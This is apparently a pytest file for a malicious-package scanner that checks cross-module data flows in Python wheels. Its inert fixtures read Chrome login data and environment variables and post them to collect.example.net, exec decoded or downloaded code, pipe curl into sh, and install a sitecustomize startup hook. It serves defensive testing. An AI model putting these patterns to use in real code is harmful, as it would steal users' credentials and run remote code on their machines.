"""Behaviours rules 12 read, each beside a look-alike that must pass: data that crosses the
package's own modules (a credential store read in one module and sent by a function of
another; decoded or downloaded bytes handed to another module's function that runs them),
and a function of the file that runs what it is handed (``def run(code): exec(code)``).

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan.source import read_source
from tests.support.archives import wheel
from tests.support.scan import judge as _judge

WHEEL = "demo-1.0-py3-none-any.whl"

SEND = "import requests\ndef ship(data):\n    requests.post('https://collect.example.net/u', data=data)\n"
RUN = "def go(code):\n    exec(code)\n"
RUN_COMMAND = "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
FETCH = (
    "import urllib.request\n"
    "def get():\n"
    "    return urllib.request.urlopen('https://cdn.example.net/p').read()\n"
)
BROWSER = (
    "import os\n"
    "def collect():\n"
    "    p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',\n"
    "                     'Default', 'Login Data')\n"
    "    return open(p, 'rb').read()\n"
)
HOST = (
    "import os, socket, getpass\n"
    "def gather():\n"
    "    return {'env': dict(os.environ), 'host': socket.gethostname(), 'who': getpass.getuser()}\n"
)

CROSSING = {
    "credential store read in one module, sent by another": {
        "demo/__init__.py": "from .grab import collect\nfrom .send import ship\nship(collect())\n",
        "demo/grab.py": BROWSER,
        "demo/send.py": SEND,
    },
    "environment and host facts, through a local name": {
        "demo/__init__.py": "from . import info, net\nfacts = info.gather()\nnet.ship(facts)\n",
        "demo/info.py": HOST,
        "demo/net.py": SEND.replace("ship", "ship"),
    },
    "decoded module-level value run by another module's function": {
        "demo/__init__.py": "from .blob import DATA\nfrom .run import go\ngo(DATA)\n",
        "demo/blob.py": "import base64\nDATA = base64.b64decode('cHJpbnQoMSk=')\n",
        "demo/run.py": RUN,
    },
    "download run by another module's function": {
        "demo/__init__.py": "from .fetch import get\nfrom .run import go\ngo(get())\n",
        "demo/fetch.py": FETCH,
        "demo/run.py": RUN,
    },
    "download run here, fetched by another module": {
        "demo/__init__.py": "from .fetch import get\nexec(get())\n",
        "demo/fetch.py": FETCH,
    },
    "credential sent here, read by another module": {
        "demo/__init__.py": (
            "import requests\nfrom .grab import collect\n"
            "requests.post('https://collect.example.net/u', data=collect())\n"
        ),
        "demo/grab.py": BROWSER,
    },
    "environment handed here to another module's sender, with the address": {
        "demo/__init__.py": (
            "import os\nfrom .send import ship\n"
            "ship('https://collect.example.net/u', dict(os.environ))\n"
        ),
        "demo/send.py": "import requests\ndef ship(url, data):\n    requests.post(url, data=data)\n",
    },
    "a method of another module's class": {
        "demo/__init__.py": "from .grab import Grabber\nfrom .send import ship\nship(Grabber().collect())\n",
        "demo/grab.py": (
            "import os\nclass Grabber:\n    def collect(self):\n"
            "        p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome',\n"
            "                         'User Data', 'Default', 'Login Data')\n"
            "        return open(p, 'rb').read()\n"
        ),
        "demo/send.py": SEND,
    },
    "two modules deep": {
        "demo/__init__.py": "from .core import payload\nfrom .run import go\ngo(payload())\n",
        "demo/core.py": "from .fetch import get\ndef payload():\n    return get()\n",
        "demo/fetch.py": FETCH,
        "demo/run.py": RUN,
    },
}

EVERYDAY = {
    # A client's modules: a request made with the user's arguments, a response parsed.
    "API client split in modules": {
        "demo/__init__.py": "from .api import fetch\nfrom .parse import parse\nparse(fetch('a'))\n",
        "demo/api.py": (
            "import requests\ndef fetch(name):\n"
            "    return requests.get('https://api.example.org/items/' + name).json()\n"
        ),
        "demo/parse.py": "import json\ndef parse(data):\n    return json.dumps(data)\n",
    },
    # Configuration read from the environment, handed to a function that logs in with it.
    "settings handed to a client": {
        "demo/__init__.py": "from .settings import load\nfrom .client import connect\nconnect(load())\n",
        "demo/settings.py": "import os\ndef load():\n    return {'region': os.getenv('AWS_REGION')}\n",
        "demo/client.py": (
            "import requests\ndef connect(settings):\n"
            "    return requests.get('https://api.example.org/', params=settings)\n"
        ),
    },
    # A task runner: a command the caller names, run by a helper of another module.
    "command runner": {
        "demo/__init__.py": "from .shell import run\nfrom .tools import command\nrun(command('ls'))\n",
        "demo/shell.py": RUN_COMMAND.replace("go", "run"),
        "demo/tools.py": "import shlex\ndef command(name):\n    return shlex.join([name, '-l'])\n",
    },
    # A plugin loader: a module's own source compiled and run (a template, a config DSL).
    "code of the package's own file run": {
        "demo/__init__.py": "from .load import source\nfrom .run import go\ngo(source('x.py'))\n",
        "demo/load.py": "def source(name):\n    return open(name).read()\n",
        "demo/run.py": RUN,
    },
}


@pytest.mark.parametrize("case", sorted(CROSSING))
def test_data_crossing_the_packages_own_modules_is_followed(case: str) -> None:
    rules, held = _judge(wheel(CROSSING[case]), WHEEL)
    assert held, rules
    assert {"credential-exfil", "phone-home", "decode-exec", "download-exec"} & rules.keys()


@pytest.mark.parametrize("case", sorted(EVERYDAY))
def test_everyday_packages_split_in_modules_pass(case: str) -> None:
    rules, held = _judge(wheel(EVERYDAY[case]), WHEEL)
    assert not held, rules


def test_the_finding_names_the_line_where_the_modules_data_meets() -> None:
    report_rules, _ = _judge(wheel(CROSSING["download run by another module's function"]), WHEEL)
    from pipgate.proxy.scan import scan_archive

    report = scan_archive(wheel(CROSSING["download run by another module's function"]), WHEEL)
    found = [f for f in report.findings if f.rule == "download-exec"]
    assert found and (found[0].file, found[0].line) == ("demo/__init__.py", 3), report_rules


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (
            "import base64\ndef go(code):\n    exec(code)\ngo(base64.b64decode('cHJpbnQoMSk='))\n",
            "decode-exec",
        ),
        (
            "import urllib.request\ndef go(code):\n    exec(code)\n"
            "go(urllib.request.urlopen('https://cdn.example.net/p').read())\n",
            "download-exec",
        ),
        (
            "import base64, subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
            "go(base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS5uZXQvcCB8IHNo'))\n",
            "decode-exec",
        ),
    ],
)
def test_a_function_that_runs_what_it_is_handed_is_followed_from_its_calls(
    source: str, rule: str
) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert held and rule in rules, rules


@pytest.mark.parametrize(
    "source",
    [
        # A REPL helper handed code the user typed.
        "def go(code):\n    exec(code)\ngo(input('> '))\n",
        # A command built from the caller's words.
        "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\ngo('make ' + 'all')\n",
        # Decoded runtime data (a message) handed to a process as an argument.
        "import base64, subprocess, sys\ndef show(text):\n    subprocess.run(['echo', text])\n"
        "show(base64.b64decode(sys.argv[1]).decode())\n",
    ],
)
def test_everyday_functions_that_run_what_they_are_handed_pass(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert not held, rules


def test_links_are_noted_only_when_asked_for() -> None:
    """A library's modules are read alone (``links=False``, the cost of a flow check of
    every module is paid only in a small package); asked, the reader notes the link."""
    source = "from .grab import collect\nfrom .send import ship\nship(collect())\n"
    assert read_source(source).links == []
    (link,) = read_source(source, links=True).links
    assert (link.target, link.name, link.line) == ("call", ".send.ship", 3)
    assert "module:.grab.collect()" in link.kinds


def test_a_large_package_is_read_module_by_module() -> None:
    """Past the passed-over budget, modules are judged alone: the crossing is not linked
    (its parts are still judged where they are)."""
    files = dict(CROSSING["download run by another module's function"])
    for number in range(12):
        files[f"demo/filler{number}.py"] = "VALUE = 1\n" + "# padding\n" * 12000
    rules, _ = _judge(wheel(files), WHEEL)
    assert "download-exec" not in rules, rules


HIDDEN_OS = (
    "import importlib, urllib.request\n"
    "def check():\n"
    "    module = importlib.import_module({name!r})\n"
    "    urllib.request.urlretrieve('https://cdn.example.net/x.sh', '/tmp/.x.sh')\n"
    "    module.system('bash /tmp/.x.sh')\n"
    "def paint(text):\n"
    "    check()\n"
    "    return text\n"
)


def test_a_process_module_imported_by_a_call_is_read_in_a_module_triage_passes_over() -> None:
    """``import_module("os").system(...)`` in a module nothing runs on import: triage
    would pass it over for want of ``os.system``; it is read, and the drop is found."""
    files = {
        "demo/__init__.py": "from .colors import *\n",
        "demo/colors.py": HIDDEN_OS.format(name="os"),
    }
    rules, held = _judge(wheel(files), WHEEL)
    assert held and "drop-run" in rules, rules


def test_a_module_imported_by_a_call_for_everyday_work_passes() -> None:
    source = (
        "import importlib, urllib.request\n"
        "def load(name):\n"
        "    return importlib.import_module('os').path.join('plugins', name)\n"
        "def fetch(url):\n"
        "    return urllib.request.urlopen(url).read()\n"
    )
    rules, held = _judge(wheel({"demo/__init__.py": "", "demo/plugins.py": source}), WHEEL)
    assert not held, rules


def test_a_download_command_handed_to_a_function_that_runs_it_is_an_action() -> None:
    """``go("curl ... | sh")`` where ``go`` hands its argument to a process is as strong as
    the process call itself; the same command only printed stays advice."""
    runner = "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
    command = "'curl -s https://x.example.net/p | sh'"
    rules, held = _judge(wheel({"demo/__init__.py": runner + f"go({command})\n"}), WHEEL)
    assert held and rules.get("download-run") == 10, rules
    rules, held = _judge(wheel({"demo/__init__.py": runner + f"print({command})\n"}), WHEEL)
    assert not held and rules.get("download-run", 0) < 10, rules


HERE = "import os\nHERE = os.path.dirname(__file__)\n"


@pytest.mark.parametrize(
    "source",
    [
        HERE + "import pkgutil\nexec(pkgutil.get_data(__name__, 'payload.txt'))\n",
        HERE + "code = open(os.path.join(HERE, 'logo.png'), 'rb').read()[1024:]\n"
        "exec(compile(code, 'x', 'exec'))\n",
        HERE + "import importlib.util\n"
        "spec = importlib.util.spec_from_file_location('c', os.path.join(HERE, 'core.bin'))\n"
        "module = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n",
        HERE + "import importlib.machinery\n"
        "importlib.machinery.SourcelessFileLoader('c', os.path.join(HERE, 'c.dat')).load_module()\n",
    ],
)
def test_code_kept_in_a_data_file_of_the_package_and_run_is_held(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert held and "decode-exec" in rules, rules


@pytest.mark.parametrize(
    "source",
    [
        # A version file run by setup-time code.
        HERE + "exec(open(os.path.join(HERE, 'version.py')).read())\n",
        # A plugin loaded from the path its user names.
        HERE + "import importlib.util\n"
        "def load(name):\n"
        "    spec = importlib.util.spec_from_file_location(name, os.path.join(HERE, name + '.py'))\n"
        "    module = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n",
        # A table read into a name and parsed by eval (the lazy way to read JSON).
        HERE + "def load(split):\n    with open(HERE + split + '.json') as f:\n"
        "        records = eval(', '.join(f.read().split('\\n')))\n    return records\n",
        # Data read as data: a word list and a logo.
        HERE + "import pkgutil\nWORDS = pkgutil.get_data(__name__, 'words.txt').decode().split()\n"
        "LOGO = open(os.path.join(HERE, 'logo.png'), 'rb').read()\n",
    ],
)
def test_a_packages_own_files_read_or_run_for_everyday_work_pass(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert not held, rules


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nlist(map(exec, [base64.b64decode('cHJpbnQoMSk=')]))\n",
        "import base64\n(lambda c: exec(c))(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64, marshal, types\n"
        "code = marshal.loads(base64.b64decode('YWJj'))\ntypes.FunctionType(code, globals())()\n",
    ],
)
def test_exec_reached_without_being_called_by_name_is_a_sink(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert held and "decode-exec" in rules, rules


@pytest.mark.parametrize(
    "source",
    [
        # A copy of a function, as serializers make.
        "import types\ndef copy(f):\n"
        "    return types.FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__)\n"
        "print(list(map(str, [1, 2])))\n",
        # A function a model file carries, loaded again (keras's `func_load`).
        "import base64, marshal, types\ndef load(code):\n"
        "    return types.FunctionType(marshal.loads(base64.b64decode(code)), globals())\n",
    ],
)
def test_functions_rebuilt_from_code_handed_at_run_time_pass(source: str) -> None:
    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert not held, rules


def test_a_wheel_that_installs_sitecustomize_runs_it_at_every_start() -> None:
    hook = "import subprocess\nsubprocess.Popen(['python', '-m', 'demo.agent'])\n"
    files = {"demo/__init__.py": "", "sitecustomize.py": hook}
    rules, held = _judge(wheel(files), WHEEL)
    assert held and rules.get("startup-hook") == 6, rules
    # The same module inside the package (a test harness's) is no start-up hook.
    files = {"demo/__init__.py": "", "demo/testing/sitecustomize.py": hook}
    rules, held = _judge(wheel(files), WHEEL)
    assert not held and "startup-hook" not in rules, rules
